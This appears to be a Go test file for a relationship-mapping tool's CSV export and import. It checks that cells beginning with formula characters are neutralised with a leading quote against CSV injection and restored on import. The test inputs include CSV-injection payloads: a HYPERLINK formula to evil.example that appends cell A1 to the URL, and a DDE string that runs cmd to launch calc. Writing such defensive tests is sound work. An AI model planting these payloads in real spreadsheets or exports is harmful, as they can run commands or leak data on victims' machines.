package exchange_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/relmap/relmap/exchange"
	"github.com/relmap/relmap/graph"
)

// TestNeutraliseCell: the cells a spreadsheet would run as a formula get
// one single quote in front (OWASP, CSV Injection); plain numbers and
// other text stay as they are; RestoreCell takes exactly that quote off.
// The expectations are the rule of formula.go applied by hand.
func TestNeutraliseCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example","click")`, `'=HYPERLINK("https://evil.example","click")`},
		{"+31 20 555 0100", "'+31 20 555 0100"},
		{"-minus", "'-minus"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"}, // starts like a number, is not one
		{"-", "'-"},
		{"-1e5", "'-1e5"}, // not a plain decimal number
		// Plain numbers are data.
		{"-0.5", "-0.5"},
		{"-12", "-12"},
		{"-0,5", "-0,5"},
		{"0.8", "0.8"},
		// Already quoted: one more quote, so that the reader's one quote
		// off gives the text back.
		{"'=x", "''=x"},
		{"''-y", "'''-y"},
		// Not formulas.
		{"", ""},
		{"Jan de Vries", "Jan de Vries"},
		{"'quoted", "'quoted"},
		{"'-5", "''-5"}, // a quote, then '-': what the reader would take a quote off
		{" =x", " =x"},  // a space first: text to every spreadsheet
		{"a=b", "a=b"},
	} {
		got := exchange.NeutraliseCell(c.in)
		if got != c.want {
			t.Errorf("NeutraliseCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := exchange.RestoreCell(got); back != c.in {
			t.Errorf("RestoreCell(%q) = %q, want %q", got, back, c.in)
		}
	}
}

// FuzzNeutraliseCell: for any text, the written cell never starts with a
// formula character unless it is a plain number, and reads back as the
// text.
func FuzzNeutraliseCell(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "-0.5", "@", "\t", "''", "x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		w := exchange.NeutraliseCell(s)
		if w != "" && strings.ContainsRune("=+-@\t\r", rune(w[0])) && w != s {
			t.Fatalf("NeutraliseCell(%q) = %q starts with a formula character", s, w)
		}
		if w != "" && strings.ContainsRune("=+@\t\r", rune(w[0])) {
			t.Fatalf("NeutraliseCell(%q) = %q starts with a formula character", s, w)
		}
		if back := exchange.RestoreCell(w); back != s {
			t.Fatalf("RestoreCell(NeutraliseCell(%q)) = %q", s, back)
		}
	})
}

// TestCSVFormulaRoundTrip is issue 13's item 10: names and notes that
// start like formulas are written with the quote in front by the CSV
// export and read back unchanged by the import; a negative number is not
// quoted.
func TestCSVFormulaRoundTrip(t *testing.T) {
	a := openStore(t)
	names := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+31 20 555 0100",
		"-Anna",
		"@SUM(A1:A9)",
		"'=already quoted",
		"-12",
	}
	b := &graph.Batch{Employees: []*graph.Employee{{ID: "emp-a", Name: "A", Role: graph.RoleStaff}}}
	for i, n := range names {
		b.Persons = append(b.Persons, &graph.Person{ID: "per-" + string(rune('a'+i)), Name: n, Title: "\t=cmd|' /C calc'!A0"})
		b.Relationships = append(b.Relationships, &graph.Relationship{Type: graph.RelKnows, From: "emp-a", To: "per-" + string(rune('a'+i)), Strength: 0.5, Note: "-" + n})
	}
	if _, err := a.Upsert(testContext(t), b, graph.UpsertOptions{}); err != nil {
		t.Fatal(err)
	}
	into := openStore(t)
	for _, k := range []exchange.Kind{exchange.Employees, exchange.Persons, exchange.Relationships} {
		var buf bytes.Buffer
		if err := exchange.WriteCSV(testContext(t), &buf, a, k); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-12" {
					t.Errorf("%s: column %s holds %q: a spreadsheet runs it", k, recs[0][i], cell)
				}
			}
		}
		if k == exchange.Persons && !strings.Contains(buf.String(), "\n-12,") && !strings.Contains(buf.String(), ",-12,") {
			t.Errorf("persons: the name -12 is a number and should be written as it is:\n%s", buf.String())
		}
		if _, err := importCSV(t, into, buf.Bytes(), exchange.ImportOptions{Kind: k}); err != nil {
			t.Fatalf("%s: %v", k, err)
		}
	}
	for i, n := range names {
		id := "per-" + string(rune('a'+i))
		was, err := a.FindPersonByID(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		p, err := into.FindPersonByID(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		// The store keeps the title without its leading tab (white space
		// is trimmed): "=cmd|…", which the export had to quote as well.
		if p.Name != n || p.Title != was.Title || !strings.HasPrefix(p.Title, "=") {
			t.Errorf("imported name %q title %q, want %q and %q", p.Name, p.Title, n, was.Title)
		}
	}
	rs, _, err := into.FindRelationships(t.Context(), graph.RelationshipFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if !strings.HasPrefix(r.Note, "-") || r.Strength != 0.5 {
			t.Errorf("relationship %s: note %q strength %v after the round trip", r.ID, r.Note, r.Strength)
		}
	}
}
